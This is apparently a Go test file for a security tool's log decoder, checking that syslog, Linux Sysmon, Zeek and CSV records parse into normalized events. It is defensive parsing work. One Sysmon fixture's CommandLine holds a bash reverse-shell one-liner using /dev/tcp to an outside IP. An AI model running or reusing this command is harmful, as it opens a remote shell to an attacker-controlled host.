package decode

import (
	"strings"
	"testing"

	"github.com/catena-sec/catena/internal/model"
)

func TestSyslogRows(t *testing.T) {
	row := func(program, message string) string {
		return `{"TimeGenerated":"2024-03-03T10:00:00.5Z","Computer":"Web01","SyslogMessage":"` + message + `","ProcessName":"` + program +
			`","ProcessID":77,"HostIP":"10.0.0.4","Facility":"authpriv","TenantId":"t","Type":"Syslog"}`
	}
	sysmon := `<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{f}\"/><EventID>1</EventID><TimeCreated SystemTime=\"2024-03-03T10:00:00.4Z\"/>` +
		`<Computer>Web01</Computer></System><EventData><Data Name=\"UtcTime\">2024-03-03 10:00:00.395</Data><Data Name=\"ProcessGuid\">{94325212-FC0E}</Data>` +
		`<Data Name=\"ProcessId\">9</Data><Data Name=\"Image\">/bin/bash</Data><Data Name=\"CommandLine\">bash -i >& /dev/tcp/1.2.3.4/9 0<&1 &quot x</Data><Data Name=\"User\">tomcat</Data></EventData></Event>`
	for _, c := range []struct{ row, want, command string }{
		{row("sshd", "Failed password for root from 203.0.113.7 port 5 ssh2"),
			`logon_failed failed sshd user/target=web01\root ip/src=203.0.113.7 ip/subject=10.0.0.4`, ""},
		{row("sudo", "bob : TTY=unknown   PWD=/   USER=root   COMMAND=/bin/id"),
			`process_start command sudo user/actor=web01\bob user/target=web01\root file/object=web01:/bin/id ip/subject=10.0.0.4`, "/bin/id"},
		{row("auoms", `type=AUOMS_EXECVE audit(1709460000.123:86): arch=x86_64 syscall=execve success=yes ppid=10 pid=11 user=tomcat uid=1001 exe=\"/bin/sh\" cmdline=\"sh -c id\" redactors= containerid=`),
			`process_start execve auditd user/actor=web01\tomcat process/subject=web01:11 process/parent=web01:10 file/object=web01:/bin/sh ip/subject=10.0.0.4`, "sh -c id"},
		{row("sysmon", sysmon),
			`process_start 1 sysmon process/subject=94325212-fc0e user/actor=web01\tomcat file/object=web01:/bin/bash ip/subject=10.0.0.4`, `bash -i >& /dev/tcp/1.2.3.4/9 0<&1 "x`},
	} {
		b, bad := decodeAll(t, JSON(Options{Names: model.NewNames()}), "rows.json", []byte(c.row))
		if len(b.Events) != 1 || len(bad) != 0 {
			t.Errorf("%s: %d events, %v", c.row, len(b.Events), bad)
			continue
		}
		e := &b.Events[0]
		if got := describeEvent(e); got != c.want {
			t.Errorf("%s:\n got %s\nwant %s", c.row, got, c.want)
		}
		if got := e.Text(model.FCommandLine); got != c.command {
			t.Errorf("command line %q, want %q", got, c.command)
		}
		if e.Source.Product != "linux" || e.Host != "web01" {
			t.Errorf("source %+v host %q", e.Source, e.Host)
		}
	}
}

// TestLinuxSysmonJSON: events of Sysmon for Linux as Elastic's agent and converters
// of its XML write them are no events of Windows.
func TestLinuxSysmonJSON(t *testing.T) {
	const want = `process_start 1 sysmon process/subject=94325212-fc0e user/actor=web01\tomcat file/object=web01:/bin/bash`
	checkGolden(t, "windows-json", "web01", []golden{
		{`{"@timestamp":"2024-03-03T10:00:00.4Z","host":{"os":{"type":"linux"}},"winlog":{"event_id":"1","provider_name":"Linux-Sysmon","channel":"Linux-Sysmon/Operational","computer_name":"Web01",` +
			`"event_data":{"UtcTime":"2024-03-03 10:00:00.395","ProcessGuid":"{94325212-FC0E}","ProcessId":"9","Image":"/bin/bash","CommandLine":"bash -i","User":"tomcat"}}}`, "linux/process_creation/sysmon", want, []string{"CommandLine=bash -i"}},
		{`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Linux-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2024-03-03T10:00:00.4Z"}},"Computer":"Web01"},` +
			`"EventData":{"UtcTime":"2024-03-03 10:00:00.395","ProcessGuid":"{94325212-FC0E}","ProcessId":"9","Image":"/bin/bash","CommandLine":"bash -i","User":"tomcat"}}}`, "linux/process_creation/sysmon", want, nil},
	})
}

func TestZeekJSON(t *testing.T) {
	for _, c := range []struct{ row, want string }{
		{`{"@stream":"dns","ts":1709460000.25,"uid":"C1","id_orig_h":"10.0.0.5","id_resp_h":"10.0.0.1","query":"a.example.com","answers":["1.1.1.1","b"]}`,
			"dns dns dns ip/src=10.0.0.5 ip/dst=10.0.0.1 domain/object=a.example.com"},
		{`{"_path":"kerberos","ts":"2024-03-03T10:00:00.250000Z","uid":"C1","id.orig_h":"10.0.0.5","id.resp_h":"10.0.0.1","client":"Bob/CORP","service":"krbtgt/CORP"}`,
			"ticket kerberos kerberos ip/src=10.0.0.5 ip/dst=10.0.0.1 user/actor=bob@corp app/target=krbtgt/corp"},
		{`{"ts":1.70946000025e9,"uid":"C1","id.orig_h":"10.0.0.5","id.resp_h":"10.0.0.1","conn_state":"SF"}`,
			"connect conn conn ip/src=10.0.0.5 ip/dst=10.0.0.1"},
		{`{"_path":"ntlm","ts":1709460000.25,"uid":"C1","id.orig_h":"10.0.0.5","id.resp_h":"10.0.0.1","username":"Bob","domainname":"CORP","success":true}`,
			`logon ntlm ntlm ip/src=10.0.0.5 ip/dst=10.0.0.1 user/target=corp\bob`},
		{`{"_path":"dce_rpc","ts":1709460000.25,"uid":"C1","id.orig_h":"10.0.0.5","id.resp_h":"10.0.0.1","endpoint":"IWbemServices","operation":"ExecMethod"}`,
			`remote_exec ExecMethod dce_rpc ip/src=10.0.0.5 ip/dst=10.0.0.1`},
	} {
		names := model.NewNames()
		b, bad := decodeAll(t, JSON(Options{Names: names}), "zeek.json", []byte(c.row))
		if len(b.Events) != 1 || len(bad) != 0 {
			t.Errorf("%s: %d events, %v", c.row, len(b.Events), bad)
			continue
		}
		e := &b.Events[0]
		if got := describeEvent(e); got != c.want || e.Format != "zeek" {
			t.Errorf("%s: %s\n got %s\nwant %s", c.row, e.Format, got, c.want)
		}
		if got := e.Time.Format("2006-01-02T15:04:05.00"); got != "2024-03-03T10:00:00.25" {
			t.Errorf("%s: time %s", c.row, got)
		}
	}
	b := &Batch{}
	JSON(Options{Names: model.NewNames()}).Decode(Chunk{Data: []byte(`{"ts":1709460000.25,"uid":"C1","user":"x"}`)}, b)
	if len(b.Events) == 1 && b.Events[0].Format == "zeek" {
		t.Error("a record that is none of Zeek's became one")
	}
}

func TestLinuxJSONData(t *testing.T) {
	for name, data := range dataFiles(t, "otrf_compound/Log4Shell_linux/syslog*.zip", "otrf_compound/apt29_day1_zeek/combined_zeek.log", "otrf_compound/apt29_day1_zeek/individual/*.log") {
		b, bad := decodeAll(t, JSON(Options{Names: model.NewNames()}), name, data)
		if int64(len(b.Events)) != b.Records || b.Records == 0 || len(bad) != 0 {
			t.Errorf("%s: %d events of %d records: %v", name, len(b.Events), b.Records, bad)
		}
		for i := range b.Events {
			if p := b.Events[i].Source.Product; p != "linux" && p != "zeek" {
				t.Fatalf("%s: event %d is of product %q", name, i, p)
			}
		}
	}
}

func TestLogAnalyticsSyslogCSV(t *testing.T) {
	const in = ",TimeGenerated,Computer,SyslogMessage,ProcessID,HostIP,ProcessName\n" +
		"0,7/8/2019 16:08,Squid,bob : TTY=unknown   PWD=/   USER=root   COMMAND=/bin/id,,10.0.6.5,sudo\n"
	o := Options{Names: model.NewNames(), Mappings: shippedMappings(t)}
	b, bad := decodeAll(t, CSV(o), "syslog.csv", []byte(in))
	if len(b.Events) != 1 || len(bad) != 0 {
		t.Fatalf("%d events, %v", len(b.Events), bad)
	}
	if got, want := describeEvent(&b.Events[0]), `process_start command sudo user/actor=squid\bob user/target=squid\root file/object=squid:/bin/id ip/subject=10.0.6.5`; got != want {
		t.Errorf("\n got %s\nwant %s", got, want)
	}
	if got := b.Events[0].Time.Format("2006-01-02T15:04:05"); got != "2019-07-08T16:08:00" {
		t.Errorf("time %s", got)
	}
	for name, data := range dataFiles(t, "linux/msticpy_syslog/*.csv") {
		b, bad := decodeAll(t, CSV(o), name, data)
		if len(b.Events) != 100 || len(bad) != 0 || !strings.HasPrefix(b.Events[0].Source.Product, "linux") {
			t.Errorf("%s: %d events, %v", name, len(b.Events), bad)
		}
	}
}

func FuzzEscapeData(f *testing.F) {
	f.Add(`<Event><System><Provider Name="Linux-Sysmon"/></System><EventData><Data Name="A">x & y <z &quot a</Data></EventData></Event>`)
	f.Add(`<Event>Linux-Sysmon<Data Name="A"><Data Name="&`)
	names := model.NewNames()
	f.Fuzz(func(t *testing.T, xml string) {
		b := &Batch{}
		var e model.Event
		if linuxSysmon(b, &e, names, xml) == nil {
			e.Slots = b.Open()
			linuxEntities(&e)
		}
	})
}
